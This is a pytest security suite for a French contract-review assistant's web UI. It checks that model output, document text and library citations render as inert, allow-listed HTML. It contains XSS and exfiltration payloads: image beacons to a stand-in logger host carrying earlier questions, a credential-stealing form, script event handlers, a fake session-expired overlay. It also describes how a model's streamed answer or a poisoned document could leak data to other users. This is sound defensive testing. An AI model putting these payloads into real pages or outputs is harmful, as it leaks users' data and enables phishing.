"""Attack suite, rendering (issue 18, holes 1 and 2): nothing from a document, the library or a
model reaches the page as live HTML, an image, a form, a style or a link that loads by itself.
The browser-level proof is tests/test_security_browser.py; these check every output path."""

from __future__ import annotations

import re

import gradio as gr
import pytest

from assistant.types import Citation
from assistant.web import render
from assistant.web.handlers import Handlers, sources_markdown

LOGGER = "http://127.0.0.1:9/"
PAYLOADS = [
    f"![]({LOGGER}?d=earlier+questions)",
    f"![x][r]\n\n[r]: {LOGGER}ref.png",
    f'<img src="{LOGGER}img.png" onerror="alert(1)">',
    f'<form action="{LOGGER}steal"><input name="q"><button>OK</button></form>',
    "<style>body{display:none}</style>",
    '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Session expirée</div>',
    f'<a href="{LOGGER}">clic</a> <a href="javascript:alert(1)">js</a>',
    f"[click]({LOGGER}?x) <{LOGGER}auto>",
    '<svg onload="alert(1)"><image href="http://127.0.0.1:9/s.png"/></svg>',
    '<iframe src="http://127.0.0.1:9/"></iframe><object data="http://127.0.0.1:9/"></object>',
    "<scr<script>ipt>alert(1)</script>",
    "```html\n<img src=http://127.0.0.1:9/code>\n```",
    "<!-- hidden --><link rel=stylesheet href=http://127.0.0.1:9/x.css>",
    "| a | b |\n|---|---|\n| <img src=http://127.0.0.1:9/t> | ![](http://127.0.0.1:9/t2) |",
]
TAG = re.compile(r"<\s*([a-zA-Z][a-zA-Z0-9]*)([^>]*)>")
ALLOWED = {"div", "p", "br", "strong", "em", "code", "pre", "ul", "ol", "li", "h1", "h2", "h3", "h4", "h5", "h6",
           "blockquote", "hr", "table", "thead", "tbody", "tr", "th", "td", "span", "s"}


def _only_allowed(html: str) -> None:
    for name, attrs in TAG.findall(html):
        assert name.lower() in ALLOWED, (name, html)
        assert attrs.strip() in ("", "/", 'class="clz-safe"', 'class="clz-media"', 'class="clz-link"',
                                 'class="clz-plain"'), (attrs, html)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_renderer_emits_only_allow_listed_tags(payload):
    for out in (render.markdown(payload), render.plain(payload), render.markdown(f"Avant [1]\n\n{payload}\n\nAprès")):
        _only_allowed(out)
        assert "src=" not in out.replace("src=http", "").replace('src="http', "") or "&lt;" in out
        assert not re.search(r"<[^>]*\b(src|href|action|style|on\w+)\s*=", out), out


def test_images_and_links_are_shown_as_text_not_followed():
    out = render.markdown(f"Voir [la fiche]({LOGGER}fiche) et ![schéma]({LOGGER}img.png).")
    assert "la fiche" in out and f"<code>{LOGGER}fiche</code>" in out  # the address is shown
    assert "[image: schéma — " in out and "<img" not in out and "<a " not in out


def test_formatting_of_verified_answers_survives():
    out = render.markdown("**GTR** : délai de *rétablissement* [1].\n\n- P1 : 4 h\n- P2 : 8 h\n\n### Sources")
    assert "<strong>GTR</strong>" in out and "<em>rétablissement</em>" in out and "<li>P1 : 4 h</li>" in out
    assert "<h3>Sources</h3>" in out and "\n\n" not in out  # one HTML block for the page's Markdown reader


def test_lone_surrogates_and_controls_never_reach_the_page():
    out = render.markdown("a\ud800b\x1b[31mc\u202ed")
    assert "\ud800" not in out and "\x1b" not in out and "\u202e" not in out and "a\ufffdb" in out


def test_sources_panel_with_hostile_titles_and_excerpts_is_inert(handlers):
    cites = [Citation(ref=1, id="user.x.c0", kind="user", title=PAYLOADS[2] + " — " + PAYLOADS[5], labels=("topic:sla",),
                      excerpt=PAYLOADS[0] + " " + PAYLOADS[3] + " " + PAYLOADS[4])]
    md = sources_markdown(cites, "fr")
    assert "<small>" not in md  # the panel's own Markdown has no raw HTML either
    html = render.markdown(md)
    _only_allowed(html)
    assert "&lt;img" in html and "[image:" in html and "&lt;form" in html and "&lt;style&gt;" in html


@pytest.fixture(scope="module")
def handlers(app, tmp_path_factory):
    return Handlers(app, root=tmp_path_factory.mktemp("render-sessions"))


def _fn(demo, name):
    return next(f.fn for f in demo.fns.values() if f.name == name)


def test_streamed_model_text_is_escaped_until_verified(app, tmp_path):
    """Hole 1: the model's (unverified) stream carried an image that the browser fetched before
    the answer was even checked. Now every provisional snapshot is escaped plain text, and the
    final answer goes through the allow-list renderer."""
    from assistant.web.app import build_ui
    from tests.llm_helpers import MODEL, Q_FR, build_llm_app, scripted

    attack = (f"Le sous-traitant doit alerter le client sans délai injustifié [1]. "
              f"![]({LOGGER}?d=Q1+Q2) <img src={LOGGER}b.png>")
    llm_app = build_llm_app(app, tmp_path, scripted(attack), model=MODEL)
    demo = build_ui(llm_app, handlers=Handlers(llm_app, root=tmp_path / "s"))
    outs = list(_fn(demo, "on_chat")(Q_FR, None, None, "client", "auto", gr.Request(username=None)))
    assert len(outs) >= 3
    for out in outs:
        chat, sources = out[0], out[1]
        for message in chat:
            _only_allowed(message["content"])
            assert "<img" not in message["content"]
        if sources:
            _only_allowed(sources)
    streamed = [o[0][-1]["content"] for o in outs[1:-1]]
    assert any("clz-plain" in s for s in streamed)  # provisional: shown as text
    final = outs[-1][0][-1]["content"]
    assert "juridique" in final and "clz-plain" not in final


def test_review_and_library_outputs_are_rendered_inert(app, handlers, tmp_path):
    """Hole 2: a document's headings and sentences reach the review tables and, through the
    shared library, other users' Sources panels."""
    from assistant.web.app import build_ui

    hostile = tmp_path / "contrat <img src=http：x>.txt"
    hostile.write_text(
        "Article 1 - Objet <img src=\"http://127.0.0.1:9/h.png\">\n"
        "Le prestataire assure la maintenance du parc. <form action=\"http://127.0.0.1:9/f\"><input></form>\n\n"
        "Article 2 - Données personnelles <style>*{display:none}</style>\n"
        "Le prestataire traite les données personnelles sur instruction documentée du client "
        f"![]({LOGGER}x.png).\n", encoding="utf-8")
    demo = build_ui(app, handlers=handlers)
    out = _fn(demo, "on_review")(None, str(hostile), "client", gr.Request(username=None))
    summary, findings, missing, art28 = out[0], out[1], out[2], out[3]
    for html in (summary, missing):
        _only_allowed(html)
    for row in list(findings) + list(art28):
        for cell in row:
            assert isinstance(cell, str) and "\x1b" not in cell  # table cells are plain text for the table


def test_chat_components_do_not_render_latex_or_custom_tags(app, handlers):
    from assistant.web.app import build_ui

    demo = build_ui(app, handlers=handlers)
    chatbot = next(b for b in demo.blocks.values() if getattr(b, "elem_id", None) == "chatbot")
    assert chatbot.latex_delimiters == [] and chatbot.sanitize_html and chatbot.allow_tags is False
    for block in demo.blocks.values():
        if isinstance(block, gr.Markdown):
            assert block.latex_delimiters == [], block.elem_id
        assert not isinstance(block, gr.HTML) or block.elem_id is None
